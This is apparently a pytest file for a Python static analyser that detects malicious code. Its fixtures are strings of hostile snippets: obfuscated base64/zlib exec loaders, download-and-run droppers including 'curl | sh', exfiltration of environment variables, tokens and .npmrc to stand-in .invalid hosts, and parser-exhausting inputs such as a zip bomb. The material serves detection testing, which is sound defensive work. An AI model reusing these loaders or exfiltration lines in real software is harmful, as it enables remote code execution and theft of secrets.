"""What the whole reader finds in sources like those that scanners miss, and leaves alone in ordinary ones."""

import ast
import base64
import gc
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Language, Taint
from pratique.analysis.languages import python
from tests.analysis.languages.python.reading import apis, facts, flows

CODE, PROCESS, NETWORK, WRITE = (
    Capability.CODE,
    Capability.PROCESS,
    Capability.NETWORK,
    Capability.FILE_WRITE,
)
MARKER = b"print('marker')"
PLAIN = base64.b64encode(MARKER).decode()
LOADER = b"import urllib.request as u\nexec(u.urlopen('http://loader.invalid/x').read())"
REVERSED = base64.b64encode(zlib.compress(LOADER))[::-1]

DECODED_CODE = {
    "plain": f"import base64\nexec(base64.b64decode('{PLAIN}'))",
    "from-import": f"from base64 import b64decode\nexec(b64decode('{PLAIN}'))",
    "alias": f"import base64 as b\ne = exec\ne(b.b64decode('{PLAIN}'))",
    "star import": f"from base64 import *\nexec(b64decode('{PLAIN}'))",
    "unknown data": "import base64\ndef run(x):\n  exec(base64.b64decode(x))",
    "fromhex": f"exec(bytes.fromhex('{MARKER.hex()}'))",
    "unhexlify": f"import binascii\nexec(binascii.unhexlify('{MARKER.hex()}'))",
    "rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    "compiled first": f"import base64\nc = compile(base64.b64decode('{PLAIN}'), 'x', 'exec')\nexec(c)",
    "getattr": f"import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('{PLAIN}'))",
    "builtins dict": f"import base64\n__builtins__.__dict__['exec'](base64.b64decode('{PLAIN}'))",
    "globals": f"import base64\nglobals()['__builtins__'].exec(base64.b64decode('{PLAIN}'))",
    "import by call": f"exec(__import__('base64').b64decode('{PLAIN}'))",
    "importlib": f"import importlib\nexec(importlib.import_module('base' + '64').b64decode('{PLAIN}'))",
    "attrgetter": f"import operator, base64\nexec(operator.attrgetter('b64decode')(base64)('{PLAIN}'))",
    "partial": f"import functools, base64\nfunctools.partial(exec, base64.b64decode('{PLAIN}'))()",
    "mapped": f"import base64\nlist(map(exec, [base64.b64decode('{PLAIN}')]))",
    "thread": (
        f"import base64, threading\nthreading.Thread(target=exec, args=(base64.b64decode('{PLAIN}'),)).start()"
    ),
    "through a function": (
        f"import base64\ndef d(x):\n  return base64.b64decode(x)\ndef run(y):\n  exec(d(y))\nrun('{PLAIN}')"
    ),
    "through a parameter": f"import base64\ndef run(code):\n  exec(code)\nrun(base64.b64decode('{PLAIN}'))",
    "through an attribute": (
        f"import base64\nclass A:\n  def __init__(self):\n    self.c = base64.b64decode('{PLAIN}')\n"
        "  def go(self):\n    exec(self.c)"
    ),
    "through a list": f"import base64\nparts = []\nparts.append(base64.b64decode('{PLAIN}'))\nexec(b''.join(parts))",
    "reversed, packed, by lambda": (
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
        f"exec((_)({REVERSED!r}))"
    ),
    "marshal": f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{PLAIN}')))",
    "eval of a name": f"import base64\neval('exec')(base64.b64decode('{PLAIN}'))",
    "quotes before it": f"x = \"'''\"\nimport base64\nexec(base64.b64decode('{PLAIN}'))",
    "Python 2": f"import base64\nprint 'x'\nexec base64.b64decode('{PLAIN}')",
    "codec method": "exec('cHJpbnQ='.decode('base64'))",
    "walrus": f"import base64\nif (c := base64.b64decode('{PLAIN}')): exec(c)",
    "with a default": f"import base64\ndef f(c=base64.b64decode('{PLAIN}')):\n  exec(c)",
}


@pytest.mark.parametrize("source", DECODED_CODE.values(), ids=DECODED_CODE.keys())
def test_decoded_data_that_is_executed_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink is CODE]

    assert any(Taint.DECODED in taints for taints in found)


COMPUTED_CODE = {
    "chr of a list": "exec(''.join(chr(n) for n in [112, 114, 105]))",
    "chr mapped": "exec(''.join(map(chr, [112, 114, 105])))",
    "bytes of numbers": "exec(bytes([112, 114, 105]))",
    "arithmetic": "exec(chr(100 + 12) + chr(57 * 2))",
    "own decoder": "def d(n, k):\n  s = ''\n  for c in n:\n    s += chr(ord(c) ^ k)\n  return s\nexec(d('abc', 7))",
    "exclusive or": "def d(b):\n  return bytes(x ^ 7 for x in b)\nexec(d(b'abc'))",
    "computed built-in": (
        "def f(a):\n  return ''.join(chr(x - 1) for x in a)\n"
        "getattr(__builtins__, f([102, 121, 102, 100]))(f([113, 115]))"
    ),
    "unknown computed built-in": "import sys\ngetattr(__builtins__, ''.join(chr(x) for x in sys.argv))('x')",
}


@pytest.mark.parametrize("source", COMPUTED_CODE.values(), ids=COMPUTED_CODE.keys())
def test_text_computed_from_numbers_that_is_executed_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink is CODE]

    assert any(Taint.COMPUTED in taints for taints in found)


DOWNLOADED = {
    "urlopen": "import urllib.request\nexec(urllib.request.urlopen('http://a.invalid').read())",
    "Python 2": "import urllib2\nexec(urllib2.urlopen('http://a.invalid').read())",
    "six": "from six.moves.urllib.request import urlopen\nexec(urlopen('http://a.invalid').read())",
    "requests": "import requests as r\nexec(r.get('http://a.invalid').text)",
    "session": "import requests\ns = requests.Session()\nexec(s.get('http://a.invalid').content.decode())",
    "socket": "import socket\ns = socket.socket()\ns.connect(('a.invalid', 1))\nexec(s.recv(99))",
    "with": (
        "from urllib.request import urlopen\nwith urlopen('http://a.invalid') as r:\n  data = r.read()\nexec(data)"
    ),
    "http.client": (
        "import http.client\nc = http.client.HTTPSConnection('a.invalid')\nc.request('GET', '/')\n"
        "exec(c.getresponse().read())"
    ),
}


@pytest.mark.parametrize("source", DOWNLOADED.values(), ids=DOWNLOADED.keys())
def test_downloaded_data_that_is_executed_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink is CODE]

    assert any(Taint.NETWORK in taints for taints in found)


DROPPED = {
    "by the same name": (
        "import requests, subprocess, tempfile, os\npath = os.path.join(tempfile.gettempdir(), 'x.exe')\n"
        "r = requests.get('http://a.invalid')\nwith open(path, 'wb') as f:\n  f.write(r.content)\n"
        "subprocess.Popen([path])"
    ),
    "by a constant": (
        "import requests, os\nopen('/tmp/p.sh', 'wb').write(requests.get('http://a.invalid').content)\n"
        "os.system('sh /tmp/p.sh')"
    ),
    "urlretrieve": (
        "import urllib.request, os\nurllib.request.urlretrieve('http://a.invalid', 'p.exe')\nos.startfile('p.exe')"
    ),
    "pathlib": (
        "from pathlib import Path\nimport requests, subprocess\np = Path.home() / 'x'\n"
        "p.write_bytes(requests.get('http://a.invalid').content)\nsubprocess.run([str(p)])"
    ),
    "through a function": (
        "import requests, subprocess\ndef get(url, path):\n  with open(path, 'wb') as f:\n"
        "    f.write(requests.get(url).content)\ntarget = 'y.bin'\nget('http://a.invalid', target)\n"
        "subprocess.call([target])"
    ),
    "in an f-string": (
        "import requests, os\nname = input()\nopen(name, 'wb').write(requests.get('http://a.invalid').content)\n"
        "os.system(f'start {name}')"
    ),
    "output of curl": "import subprocess\nexec(subprocess.check_output(['curl', 'http://a.invalid']))",
    "shell": "import os\nos.system('curl http://a.invalid/x.sh | sh')",
}


@pytest.mark.parametrize("source", DROPPED.values(), ids=DROPPED.keys())
def test_a_download_that_is_started_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink in {PROCESS, CODE}]

    assert any(Taint.NETWORK in taints for taints in found)


def test_another_file_in_the_folder_of_a_download_is_not_the_download() -> None:
    source = (
        "import requests, subprocess, os\nd = '/tmp'\n"
        "open(os.path.join(d, 'data.json'), 'wb').write(requests.get('http://a.invalid').content)\n"
        "subprocess.run([os.path.join(d, 'tool')])"
    )

    assert [] == flows(source)


def test_a_key_from_the_environment_is_told() -> None:
    source = (
        "from cryptography.fernet import Fernet\nimport os\n"
        "exec(Fernet(os.environ['K'].encode()).decrypt(b'gAAAA'))"
    )

    assert [(CODE, "exec", {Taint.DECRYPTED, Taint.KEY_FROM_ENVIRONMENT})] == flows(source)


def test_a_key_from_the_host_name_is_told() -> None:
    source = (
        "from Crypto.Cipher import AES\nimport hashlib, socket\n"
        "key = hashlib.sha256(socket.gethostname().encode()).digest()\n"
        "exec(AES.new(key, AES.MODE_CBC).decrypt(open('x', 'rb').read()))"
    )

    assert [(CODE, "exec", {Taint.FILE, Taint.DECRYPTED, Taint.KEY_FROM_ENVIRONMENT})] == flows(source)


def test_a_loader_written_to_a_temporary_file_and_started_is_read_as_code() -> None:
    source = (
        "from tempfile import NamedTemporaryFile as _f\nfrom os import system as _s\nt = _f(delete=False)\n"
        't.write(b"""from urllib.request import urlopen as u;exec(u(\'http://w.invalid/i\').read())""")\n'
        't.close()\ntry: _s(f"start pythonw {t.name}")\nexcept: pass\n'
    )

    assert [(CODE, "exec", {Taint.NETWORK})] == flows(source)
    assert [(1, True)] == [(flow.depth, flow.at_load) for flow in facts(source).flows]
    assert ["http://w.invalid/i"] == [address.value for address in facts(source).addresses]


def test_code_inside_decoded_literals_is_read_to_the_depth_of_three() -> None:
    source = "import os; os.system('marker')"
    for _ in range(5):
        source = f"import base64; exec(base64.b64decode({base64.b64encode(source.encode()).decode()!r}))"
    found = facts(source)

    assert {0, 1, 2, 3} == {use.depth for use in found.uses if use.api == "exec"}
    assert [] == [use for use in found.uses if use.api == "os.system"]


def test_code_given_to_another_python_is_read() -> None:
    source = (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.socket()'])"
    )

    assert [("socket.socket", 1)] == [
        (use.api, use.depth) for use in facts(source).uses if use.capability is NETWORK
    ]


def test_encoded_addresses_are_told_as_such() -> None:
    hidden = base64.b64encode(b"https://hook.invalid/api/1").decode()
    source = (
        f"import base64, requests\nrequests.post(base64.b64decode('{hidden}'))\n"
        "x = 'ht' + 'tps://b.inv' + 'alid/c'\ny = 'ht' + 'tps://shown.invalid/c'"
    )

    assert {
        ("https://hook.invalid/api/1", True),
        ("https://b.invalid/c", True),
        ("https://shown.invalid/c", False),
    } == {(address.value, address.encoded) for address in facts(source).addresses}


def test_addresses_in_docstrings_and_comments_are_no_facts() -> None:
    source = '"""See https://docs.invalid/."""\n# https://comment.invalid\nURL = "https://api.invalid/v1"\n'

    assert [("https://api.invalid/v1", 3, False)] == [
        (address.value, address.line, address.encoded) for address in facts(source).addresses
    ]


SENT = {
    "dump": "import os, requests\nrequests.post('https://c.invalid', json=dict(os.environ))",
    "one variable": "import os, requests\nrequests.post('https://c.invalid', data={'t': os.environ['TOKEN']})",
    "in the address": "import os, requests\nrequests.get('https://c.invalid/?t=' + os.getenv('TOKEN'))",
    "by name": "import os, requests\nu = 'https://c.invalid/?t=%s' % os.getenv('TOKEN')\nrequests.get(u)",
    "as a domain": "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.c.invalid')",
    "by socket": "import os, socket\ns = socket.socket()\ns.sendall(str(os.environ).encode())",
    "by urllib": "import os, urllib.request as u\nu.urlopen('https://c.invalid', data=repr(os.environ).encode())",
}


@pytest.mark.parametrize("source", SENT.values(), ids=SENT.keys())
def test_the_environment_that_is_sent_is_a_flow(source: str) -> None:
    assert any(
        sink is NETWORK and {Taint.ENVIRONMENT, Taint.IDENTITY} & taints for sink, _, taints in flows(source)
    )


def test_a_file_that_is_sent_is_a_flow() -> None:
    source = "import requests\nrequests.post('https://c.invalid', files={'f': open('.npmrc', 'rb')})"

    assert [(NETWORK, "requests.post", {Taint.FILE, Taint.SECRETS})] == flows(source)


ORDINARY = {
    "address from the environment": "import os, requests\nrequests.get(os.environ['URL'])",
    "host from the environment": "import os, requests\nrequests.get(f\"https://{os.environ['HOST']}/v1\")",
    "timeout from the environment": "import os, requests\nrequests.get('https://a.invalid', timeout=int(os.environ['T']))",
    "decoded image": "import base64\nimage = base64.b64decode(data)\nshow(image)",
    "executed template": "exec('def f(): pass')",
    "environment handed on": "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, A='1'))",
    "hex token": "import codecs, os, subprocess\nt = codecs.encode(os.urandom(8), 'hex')\nsubprocess.run(['x', t])",
    "re.compile": "import re, base64\nre.compile(base64.b64decode(x))",
    "own method named exec": "class A:\n  def exec(self, x): pass\nA().exec(b64decode('x'))",
    "own function named eval": "from base64 import b64decode\ndef eval(x): return x\neval(b64decode('x'))",
    "decoded then replaced": "import base64\nx = base64.b64decode(y)\nx = 'print(1)'\nexec(x)",
    "unpickled cache": "import pickle, base64\npickle.loads(base64.b64decode(x))",
    "length of a download": "import requests, os\nn = len(requests.get('https://a.invalid').content)\nexec('x')",
    "buffer": "import io, zlib\nio.BytesIO().write(zlib.decompress(x))",
    "call by table": "class A: pass\nvars(A)['f'](base64)\nhandlers = {}\nhandlers['x']('y')",
    "dispatch by name": "import handlers\ngetattr(handlers, name)(value)",
}


@pytest.mark.parametrize("source", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_code_has_no_flow(source: str) -> None:
    assert [] == flows(source)


def test_a_file_in_python_2_is_whole() -> None:
    found = facts("print 'a'\nimport os\ntry:\n  os.system('ls')\nexcept OSError, e:\n  print e\n")

    assert found.problem is None
    assert ["os"] == [item.module for item in found.imports]
    assert ["os.system"] == [use.api for use in found.uses]


def test_a_file_that_does_not_parse_says_so() -> None:
    found = facts("import os\n" + "))) ((( ]] [[ {{ def def class :::\n" * 40)

    assert found.problem is not None
    assert "error" in found.problem


def test_text_is_read_with_its_own_lines_or_at_one() -> None:
    source = "import os\n\nos.system('x')"

    assert [3] == [use.line for use in python.extract_text(source).uses]
    assert [7] == [use.line for use in python.extract_text(source, line=7).uses]


def test_the_language_is_python() -> None:
    assert Language.PYTHON is facts("").language
    assert [] == apis("", CODE)


@pytest.mark.fuzz
@given(st.binary(max_size=400))
def test_any_bytes_give_facts(data: bytes) -> None:
    assert Language.PYTHON is python.extract(data).language


PIECES = st.sampled_from(
    [
        *(
            "import os",
            "from base64 import *",
            "exec",
            "(",
            ")",
            "[",
            "]",
            "{",
            "}",
            "lambda x:",
            "=",
            "+",
            "x",
            "y",
        ),
        *(
            "'a'",
            "b'b'",
            "f'{x}'",
            "1",
            "\n",
            "\n  ",
            ":",
            "def f(x):",
            "class A:",
            "return",
            "for x in",
            "if x:",
        ),
        *(
            "os.environ",
            ".get",
            ".write",
            "open",
            "while 1:",
            "with",
            "as",
            "%",
            "*",
            "**",
            "~",
            "not",
            "and",
        ),
        *(
            "global x",
            "del",
            "yield",
            "await",
            "async",
            "chr",
            "join",
            ",",
            ".",
            "^",
            "[::-1]",
            "try:",
            "except:",
        ),
    ]
)


@pytest.mark.fuzz
@given(st.lists(PIECES, max_size=60))
def test_any_row_of_python_words_gives_facts(pieces: list[str]) -> None:
    assert Language.PYTHON is facts(" ".join(pieces)).language


HOSTILE = {
    "a million brackets": b"(" * 1_000_000,
    "nested lists": b"[" * 200_000 + b"]" * 200_000,
    "a million additions": b"1" + b"+1" * 1_000_000,
    "NUL": b"import os\0",
    "ten megabytes of text": b"x = '" + b"a" * 10_000_000 + b"'",
    "eleven megabytes": b"#" * 11_000_000,
    "unknown encoding": b"# coding: no-such-thing\nimport os",
    "form feeds": b"\x0cimport os\n" * 500,
    "lambdas": b"lambda:" * 50_000 + b"1",
    "conditions": b"1 if a else " * 50_000 + b"1",
    "branches": b"if a:\n pass\n" + b"elif a:\n pass\n" * 20_000,
    "repetition": b"exec('a' * 10 ** 9)\nexec('%1000000000d' % 1)\nexec('{:>999999999}'.format(1))",
    "replacement": b"x = 'a' * 10000\nexec(x.replace('a', 'b' * 100000))",
    "zip bomb": b"import zlib\nexec(zlib.decompress(%r))" % zlib.compress(b"a" * 50_000_000),
    "doubling": b"x0 = 'a'\n"
    + b"\n".join(b"x%d = x%d + x%d" % (n + 1, n, n) for n in range(100))
    + b"\nexec(x100)",
    "calls that double": (
        b"def f0(x): return x\n"
        + b"\n".join(b"def f%d(x): return f%d(x) + f%d(x)" % (n + 1, n, n) for n in range(60))
        + b"\nexec(f60('a'))"
    ),
    "calls in a circle": b"def a(x): return b(x) + b(x)\ndef b(x): return a(x) + a(x)\nexec(a('1'))",
    "many bindings": b"x = y\n" * 5_000 + b"exec(x)\n" * 5_000,
    "noise": bytes(range(1, 256)) * 2_000,
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_sources_end(source: bytes) -> None:
    assert Language.PYTHON is python.extract(source).language


@pytest.mark.parametrize(
    "source",
    [
        "class A:\n  def f(self): return (lambda x: self.f())(1)\nfor x in A().f(): exec(x)",
        "import os, subprocess\nsubprocess.run([x for x in os.environ])\nexec('import os; os.system(1)')",
        "print 'a'\nexec 'b'",
    ],
)
def test_a_tree_does_not_wait_for_the_garbage_collector(source: str) -> None:
    facts(source)
    gc.collect()
    gc.disable()
    try:
        before = statements_alive()
        facts(source)
        after = statements_alive()
    finally:
        gc.enable()

    assert before == after


def statements_alive() -> int:
    return sum(isinstance(thing, ast.stmt) for thing in gc.get_objects())
